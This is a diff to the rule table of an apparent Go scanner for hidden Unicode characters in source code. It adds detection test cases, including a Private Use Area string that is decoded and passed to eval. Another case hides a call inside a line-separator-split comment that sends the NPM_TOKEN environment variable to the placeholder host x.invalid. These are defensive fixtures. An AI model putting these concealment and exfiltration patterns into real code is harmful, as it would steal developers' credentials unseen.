@@ -466,8 +466,15 @@ var rules = []Rule{
 			{"x.js", "const p = 'x\ufe00\ufe01\ufe02\ufe03'", 0, false},
 			{"x.go", "if user\u200b == admin {", 0, false},
 			{"x.js", "const { timeout,\u3164 } = req.query", 0, false},
+			{"x.js", "const s = '\ue066\ue065\ue074\ue063\ue068'\neval(Buffer.from([...s].map((c) => c.codePointAt(0) - 0xe000)).toString())", 1, false},
+			{"x.lua", "icon = '\ue0b0'", 0, true},
 			{"x.js", "const greeting = '안녕하세요'", 0, true},
 			{"x.js", "const ok = '👍🏽'", 0, true},
+		}},
+	{"hidden-linebreak", KindHiddenUnicode, High, "a Unicode line or paragraph separator (U+2028, U+2029) inside code",
+		"JavaScript ends a line there, so the text after it in a // comment runs as code while every editor shows it as part of the comment", []Case{
+			{"x.js", "// see docs\u2028require('https').get('https://x.invalid/?t=' + process.env.NPM_TOKEN)", 0, false},
+			{"README.md", "a\u2028b", 0, true},
 		}},
 	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", hiddenWhy, []Case{
 		{"README.md", "see\u200bthis", 0, false},
